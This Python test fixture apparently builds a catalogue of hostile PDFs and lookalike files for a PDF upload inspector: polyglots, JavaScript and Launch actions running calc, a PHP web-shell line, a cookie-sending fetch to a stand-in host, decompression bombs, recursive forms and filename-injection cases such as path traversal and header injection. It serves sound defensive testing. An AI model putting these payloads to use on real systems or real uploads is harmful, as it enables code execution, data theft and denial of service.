"""PDFs and other files that mean harm, each made here, with the fault that must be found in it."""

# ruff: noqa: E501

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZipFile

from pypdf import PdfReader, PdfWriter

from kiks.inspection.faults import Fault
from tests.factories.pdf import PAGE, classic_pdf, packed_pdf, stream, tiny_pdf

type Made = Callable[[], bytes]
HOSTILE: dict[str, tuple[Made, Fault]] = {}


def hostile(name: str, fault: Fault, make: Made) -> None:
    assert name not in HOSTILE
    HOSTILE[name] = make, fault


def with_catalog(entry: bytes, **more: bytes) -> bytes:
    """A PDF of one page whose catalog has one entry more; `more` are objects o4, o5, ..."""
    return classic_pdf(catalog=entry, objects={int(key[1:]): value for key, value in more.items()})


def with_page(entry: bytes, **more: bytes) -> bytes:
    return classic_pdf(page=entry, objects={int(key[1:]): value for key, value in more.items()})


def with_annotation(annotation: bytes) -> bytes:
    return with_page(b"/Annots [<</Type/Annot/Rect[0 0 9 9]" + annotation + b">>]")


def encrypted(user: str, owner: str) -> bytes:
    writer = PdfWriter(PdfReader(BytesIO(tiny_pdf())))
    writer.encrypt(user, owner, algorithm="AES-256")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def archive() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w") as file:
        file.writestr("program.exe", b"MZ\x90\0 This program cannot be run")
    return out.getvalue()


def archive_around_pdf() -> bytes:
    """A ZIP archive in a stream whose comment is the rest of the PDF."""
    packed = archive()
    offset = struct.unpack_from("<I", packed, packed.rfind(b"PK\x05\x06") + 16)[0]
    whole = classic_pdf(objects={4: stream(b"", b"@" * len(packed))})
    at = whole.index(b"@" * len(packed))
    packed = packed[:-6] + struct.pack("<I", offset + at) + struct.pack("<H", len(whole) - at - len(packed))
    return whole[:at] + packed + whole[at + len(packed) :]


def marked(mark: bytes, at: int) -> bytes:
    """A PDF with a comment that carries another format's mark where that format looks for it."""
    return classic_pdf(header=b"%PDF-1.7\n%".ljust(at, b" ") + mark + b"\n")


def long_pdf() -> bytes:
    return classic_pdf(objects={4: stream(b"", b" " * 2000)})


def appended(action: bytes) -> bytes:
    """An object stream that the cross-reference table does not name: readers that rebuild the table find it."""
    content, hidden = tiny_pdf(), zlib.compress(b"9 0\n<</S/" + action + b">>")
    extra = b"8 0 obj\n" + stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", hidden) + b"\nendobj\n"
    end = content.rindex(b"startxref")
    return content[:end] + extra + content[end:]


def bomb(megabytes: int, level: int = 9) -> bytes:
    return zlib.compress(bytes(megabytes * 1024 * 1024), level)


def laughing(levels: int) -> bytes:
    """Forms that each draw the next one ten times."""
    objects = {}
    for number in range(4, 4 + levels):
        resources = b"/Resources<</XObject<</X %d 0 R>>>>" % (number + 1)
        objects[number] = stream(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + resources, b"/X Do " * 10)
    objects[4 + levels] = stream(b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]", b"0 0 m")
    objects[5 + levels] = stream(b"", b"/X Do")
    return classic_pdf(page=b"/Resources<</XObject<</X 4 0 R>>>>/Contents %d 0 R" % (5 + levels), objects=objects)


def deep_tree(levels: int) -> bytes:
    objects = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(4, 4 + levels)}
    objects[4 + levels] = b"<</Type/Page/Parent 4 0 R/MediaBox[0 0 595 842]>>"
    return classic_pdf(pages=b"<</Type/Pages/Kids[4 0 R]/Count 1>>", objects=objects)


def page_of(box: bytes) -> bytes:
    return classic_pdf(page_object=b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]>>")


def image(entry: bytes, data: bytes = b"x") -> bytes:
    return with_catalog(
        b"", o4=stream(b"/Type/XObject/Subtype/Image/ColorSpace/DeviceGray/BitsPerComponent 8" + entry, data)
    )


def jpeg_head(width: int, height: int) -> bytes:
    return b"\xff\xd8\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00\xff\xd9"


ACTION = b"/OpenAction<</S/%s%s>>"
SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"

# What is no PDF at all, whatever it is called.
hostile("html", Fault.NOT_PDF, lambda: b"<html><script>alert(document.cookie)</script></html>")
hostile("svg", Fault.NOT_PDF, lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
hostile("zip", Fault.NOT_PDF, archive)
hostile("windows_program", Fault.NOT_PDF, lambda: b"MZ\x90\x00" + bytes(60) + b"PE\0\0")
hostile("linux_program", Fault.NOT_PDF, lambda: b"\x7fELF\x02\x01\x01" + bytes(57))
hostile("word_document_of_1997", Fault.NOT_PDF, lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504))
hostile("php", Fault.NOT_PDF, lambda: b"<?php system($_GET['c']); ?>")
hostile("javascript", Fault.NOT_PDF, lambda: b"fetch('//x.test/?' + document.cookie)")
hostile("utf16_pdf", Fault.NOT_PDF, lambda: tiny_pdf().decode("latin-1").encode("utf-16"))
hostile("mark_far_inside", Fault.NOT_PDF, lambda: b"x" * 2000 + tiny_pdf())

# What is a PDF and something else as well.
hostile("html_before", Fault.DISGUISED, lambda: b"<html><script>alert(1)</script></html>\n" + tiny_pdf())
hostile("html_in_first_comment", Fault.DISGUISED, lambda: marked(b"<html><script>alert(1)</script>", 40))
hostile("svg_in_first_comment", Fault.DISGUISED, lambda: marked(b"<SVG onload=alert(1)>", 40))
hostile("gif_before", Fault.DISGUISED, lambda: b"GIF89a/*" + tiny_pdf())
hostile("program_before", Fault.DISGUISED, lambda: b"MZ" + bytes(62) + tiny_pdf())
hostile("space_before", Fault.DISGUISED, lambda: b"\n" + tiny_pdf())
hostile("html_after", Fault.DISGUISED, lambda: long_pdf() + b"<script>alert(1)</script>")
hostile("program_after", Fault.DISGUISED, lambda: long_pdf() + b"MZ" + bytes(62))
hostile("zip_after", Fault.DISGUISED, lambda: tiny_pdf() + archive())
hostile("zip_around", Fault.DISGUISED, archive_around_pdf)
hostile("tape_archive", Fault.DISGUISED, lambda: marked(b"ustar", 257))
hostile("patient_scan_dicom", Fault.DISGUISED, lambda: marked(b"DICM", 128))
hostile("disk_image", Fault.DISGUISED, lambda: marked(b"CD001", 32769))

# What cannot be read.
hostile("only_a_header", Fault.BROKEN, lambda: b"%PDF-1.7\nrusak")
hostile("cut_in_half", Fault.BROKEN, lambda: tiny_pdf()[: len(tiny_pdf()) // 2])
hostile("last_kilobyte_missing", Fault.BROKEN, lambda: classic_pdf(objects={4: stream(b"", b"x" * 9000)})[:-1024])
hostile("table_points_nowhere", Fault.BROKEN, lambda: classic_pdf(table_offset=999_999))
hostile("table_points_into_text", Fault.BROKEN, lambda: classic_pdf(table_offset=3))
hostile("objects_point_nowhere", Fault.BROKEN, lambda: classic_pdf(shift=7))
hostile("no_catalog", Fault.BROKEN, lambda: tiny_pdf().replace(b"/Root", b"/Toor"))
hostile("page_is_a_number", Fault.BROKEN, lambda: classic_pdf(pages=b"<</Type/Pages/Kids[7]/Count 1>>"))
hostile("noise_between_marks", Fault.BROKEN, lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"startxref\n9\n%%EOF")
hostile("box_of_words", Fault.BROKEN, lambda: page_of(b"(a)(b)(c)(d)"))

hostile("password", Fault.ENCRYPTED, lambda: encrypted("rahasia", "rahasia"))
hostile("permissions_only", Fault.ENCRYPTED, lambda: encrypted("", "pemilik"))

# Scripts, where they may stand and how they may be written.
hostile("script_on_opening", Fault.SCRIPT, lambda: with_catalog(ACTION % (b"JavaScript", b"/JS(app.alert(1))")))
hostile("script_in_hex_name", Fault.SCRIPT, lambda: with_catalog(ACTION % (b"J#61vaScript", b"/J#53(app.alert(1))")))
hostile(
    "script_by_reference",
    Fault.SCRIPT,
    lambda: with_catalog(b"/OpenAction 4 0 R", o4=b"<</S 5 0 R/X(1)>>", o5=b"/JavaScript"),
)
hostile("script_in_names", Fault.SCRIPT, lambda: with_catalog(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", o4=SCRIPT))
hostile("script_after_page_turn", Fault.SCRIPT, lambda: with_page(b"/AA<</O" + SCRIPT + b">>"))
hostile("script_on_annotation", Fault.SCRIPT, lambda: with_annotation(b"/Subtype/Link/A" + SCRIPT))
hostile("script_in_field", Fault.SCRIPT, lambda: with_annotation(b"/Subtype/Widget/FT/Tx/T(a)/AA<</K" + SCRIPT + b">>"))
hostile(
    "script_as_next", Fault.SCRIPT, lambda: with_catalog(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next" + SCRIPT + b">>")
)
hostile("script_in_object_stream", Fault.SCRIPT, lambda: packed_pdf(catalog=b"/OpenAction 4 0 R", objects={4: SCRIPT}))
hostile("script_behind_comment", Fault.SCRIPT, lambda: with_catalog(b"/OpenAction<</S%x\n/JavaScript/JS(1)>>"))
hostile(
    "script_in_stream_text",
    Fault.SCRIPT,
    lambda: with_catalog(b"/OpenAction<</S/JavaScript/JS 4 0 R>>", o4=stream(b"", b"1")),
)
hostile("script_nobody_refers_to", Fault.SCRIPT, lambda: with_catalog(b"", o4=SCRIPT))
hostile("script_outside_the_table", Fault.SCRIPT, lambda: appended(b"JavaScript/JS(app.alert(1))"))
hostile("escaped_script_outside_the_table", Fault.SCRIPT, lambda: appended(b"#4aava#53cript/J#53(app.alert(1))"))
hostile("launch_outside_the_table", Fault.COMMAND, lambda: appended(b"Launch/F(calc.exe)"))
hostile("script_overwritten_later", Fault.SCRIPT, lambda: classic_pdf(objects={4: SCRIPT}, then={4: b"null"}))
hostile(
    "script_address", Fault.SCRIPT, lambda: with_annotation(b"/Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>")
)
hostile("script_of_a_rendition", Fault.SCRIPT, lambda: with_catalog(ACTION % (b"Rendition", b"/JS(app.alert(1))")))

# Commands, mail of data, other files, media.
hostile("launch", Fault.COMMAND, lambda: with_catalog(ACTION % (b"Launch", b"/Win<</F(cmd.exe)/P(/c calc)>>")))
hostile("launch_in_hex_name", Fault.COMMAND, lambda: with_annotation(b"/Subtype/Link/A<</S/#4caunch/F(calc.exe)>>"))
hostile(
    "launch_in_object_stream",
    Fault.COMMAND,
    lambda: packed_pdf(catalog=b"/OpenAction 4 0 R", objects={4: b"<</S/Launch/F(a.exe)>>"}),
)
hostile("submit_form", Fault.SENDS, lambda: with_annotation(b"/Subtype/Widget/A<</S/SubmitForm/F(http://x.test)>>"))
hostile("import_data", Fault.SENDS, lambda: with_catalog(ACTION % (b"ImportData", b"/F(a.fdf)")))
hostile(
    "remote_file",
    Fault.OUTSIDE,
    lambda: with_annotation(b"/Subtype/Link/A<</S/GoToR/F(\\\\\\\\x.test\\\\a.pdf)/D[0/Fit]>>"),
)
hostile("embedded_goto", Fault.OUTSIDE, lambda: with_annotation(b"/Subtype/Link/A<</S/GoToE/D[0/Fit]>>"))
hostile("file_address", Fault.OUTSIDE, lambda: with_annotation(b"/Subtype/Link/A<</S/URI/URI(file:///C:/data.docx)>>"))
hostile(
    "share_address", Fault.OUTSIDE, lambda: with_annotation(b"/Subtype/Link/A<</S/URI/URI(\\\\\\\\x.test\\\\share)>>")
)
hostile("data_address", Fault.OUTSIDE, lambda: with_annotation(b"/Subtype/Link/A<</S/URI/URI(data:text/html,x)>>"))
hostile("stream_from_outside", Fault.OUTSIDE, lambda: with_catalog(b"", o4=stream(b"/F(http://x.test/a)", b"")))
hostile("embedded_file", Fault.EMBEDDED, lambda: with_catalog(b"", o4=stream(b"/Type/EmbeddedFile", b"MZ")))
hostile("attached_file", Fault.EMBEDDED, lambda: with_catalog(b"/Names<</EmbeddedFiles<</Names[]>>>>"))
hostile("file_annotation", Fault.EMBEDDED, lambda: with_annotation(b"/Subtype/FileAttachment/FS<</F(a.exe)>>"))
hostile("file_in_object_stream", Fault.EMBEDDED, lambda: packed_pdf(objects={4: b"<</Type/Filespec/EF<</F 3 0 R>>>>"}))
hostile("xfa_form", Fault.XFA, lambda: with_catalog(b"/AcroForm<</Fields[]/XFA 4 0 R>>", o4=stream(b"", b"<xdp/>")))
hostile("rich_media", Fault.MEDIA, lambda: with_annotation(b"/Subtype/RichMedia"))
hostile("movie", Fault.MEDIA, lambda: with_annotation(b"/Subtype/Movie/Movie<</F(a.avi)>>"))
hostile("sound", Fault.MEDIA, lambda: with_annotation(b"/Subtype/Sound"))
hostile("three_dimensions", Fault.MEDIA, lambda: with_annotation(b"/Subtype/3D"))

hostile("base_of_addresses", Fault.OUTSIDE, lambda: with_catalog(b"/URI<</Base(file:///C:/)>>"))

# What would take the machine of the server or of the reader.
hostile("no_pages", Fault.NO_PAGES, lambda: classic_pdf(pages=b"<</Type/Pages/Kids[]/Count 0>>"))
hostile("many_pages", Fault.MANY_PAGES, lambda: classic_pdf(
    pages=b"<</Type/Pages/Kids[" + b" ".join(b"%d 0 R" % n for n in range(4, 505)) + b"]/Count 501>>",
    objects=dict.fromkeys(range(4, 505), PAGE),
))  # fmt: skip
hostile("huge_page", Fault.HUGE_PAGE, lambda: page_of(b"0 0 99999999 99999999"))
hostile("huge_unit", Fault.HUGE_PAGE, lambda: classic_pdf(page=b"/UserUnit 1000"))
hostile("huge_image", Fault.HUGE_IMAGE, lambda: image(b"/Width 60000/Height 60000"))
hostile("huge_jpeg", Fault.HUGE_IMAGE, lambda: image(b"/Width 9/Height 9/Filter/DCTDecode", jpeg_head(65000, 65000)))
hostile("bomb", Fault.BOMB, lambda: with_catalog(b"", o4=stream(b"/Filter/FlateDecode", bomb(140))))
hostile("bomb_in_pieces", Fault.BOMB, lambda: classic_pdf(
    objects=dict.fromkeys(range(4, 10), stream(b"/Filter/FlateDecode", bomb(100))))
)  # fmt: skip
hostile("bomb_in_bomb", Fault.BOMB, lambda: with_catalog(
    b"", o4=stream(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(bomb(100)))
))  # fmt: skip
hostile(
    "bomb_of_objects",
    Fault.BOMB,
    lambda: with_catalog(b"", o4=stream(b"/Type/ObjStm/N 9/First 9/Filter/FlateDecode", bomb(20))),
)
hostile(
    "bomb_by_run_length",
    Fault.BOMB,
    lambda: with_catalog(b"", o4=stream(b"/Filter/RunLengthDecode", b"\x81x" * 1_100_000)),
)
hostile(
    "oddly_packed_objects",
    Fault.TANGLED,
    lambda: with_catalog(b"", o4=stream(b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", b"3>")),
)
hostile(
    "foretold_objects",
    Fault.TANGLED,
    lambda: with_catalog(
        b"",
        o4=stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12>>", zlib.compress(b"9 0 1")),
    ),
)
hostile(
    "objects_packed_elsewhere",
    Fault.TANGLED,
    lambda: with_catalog(b"", o4=stream(b"/Type/ObjStm/N 1/First 4/Filter 5 0 R", b"3>"), o5=b"/ASCIIHexDecode"),
)
hostile("page_tree_in_a_circle", Fault.TANGLED, lambda: classic_pdf(pages=b"<</Type/Pages/Kids[2 0 R]/Count 1>>"))
hostile("pages_of_each_other", Fault.TANGLED, lambda: classic_pdf(
    pages=b"<</Type/Pages/Kids[4 0 R]/Count 1>>", objects={4: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}
))  # fmt: skip
hostile("deep_page_tree", Fault.TANGLED, lambda: deep_tree(200))
hostile("deep_arrays", Fault.TANGLED, lambda: with_catalog(b"", o4=b"[" * 20_000 + b"]" * 20_000))
hostile("deep_dictionaries", Fault.BROKEN, lambda: with_catalog(b"", o4=b"<</A" * 20_000 + b" 1" + b">>" * 20_000))
hostile("form_draws_itself", Fault.TANGLED, lambda: classic_pdf(
    page=b"/Resources<</XObject<</X 4 0 R>>>>/Contents 5 0 R",
    objects={4: stream(b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>", b"/X Do"), 5: stream(b"", b"/X Do")},
))  # fmt: skip
hostile("form_draws_itself_by_resources_of_the_tree", Fault.TANGLED, lambda: classic_pdf(
    pages=b"<</Type/Pages/Kids[3 0 R]/Count 1/Resources<</XObject<</X 4 0 R>>>>>>",
    page=b"/Contents 5 0 R",
    objects={4: stream(b"/Subtype/Form/BBox[0 0 9 9]", b"/X Do"), 5: stream(b"", b"/X Do")},
))  # fmt: skip
hostile("forms_a_thousand_million_times", Fault.TANGLED, lambda: laughing(9))

# Files that pass the examination: nothing in them acts by itself, and they are served so that nothing can.
INERT: dict[str, Made] = {
    "markup_in_title": lambda: tiny_pdf("</title><script>alert(1)</script>"),
    "markup_in_content": lambda: classic_pdf(
        objects={4: stream(b"", b" " * 1100 + b"<html><script>alert(1)</script>")}
    ),
    "program_in_stream": lambda: classic_pdf(objects={4: stream(b"", b"MZ\x90\0 This program cannot be run")}),
    "address_named_javascript": lambda: with_annotation(b"/Subtype/Link/A<</S/URI/URI(https://x.test/JavaScript)>>"),
    "link_to_the_web": lambda: with_annotation(b"/Subtype/Link/A<</S/URI/URI(http://x.test/?a=%3Cscript%3E)>>"),
}
NAMES = {
    "../../etc/passwd": "passwd.pdf",
    "..\\..\\windows\\evil.pdf": "evil.pdf",
    "laporan\u202efdp.exe": "laporanfdp.exe.pdf",
    "surat\x00.pdf": "surat.pdf",
    "surat\r\nSet-Cookie: a=b.pdf": "suratSet-Cookie: a=b.pdf",
    "  .pdf": "lampiran.pdf",
    "\u200b.PDF": "lampiran.pdf",
    "laporan.pdf.html": "laporan.pdf.html.pdf",
    "<img src=x onerror=alert(1)>.pdf": "<img src=x onerror=alert(1)>.pdf",
    "a" * 300 + ".pdf": "a" * 156 + ".pdf",
    "Laporan  akhir.PDF": "Laporan akhir.pdf",
}  # fmt: skip
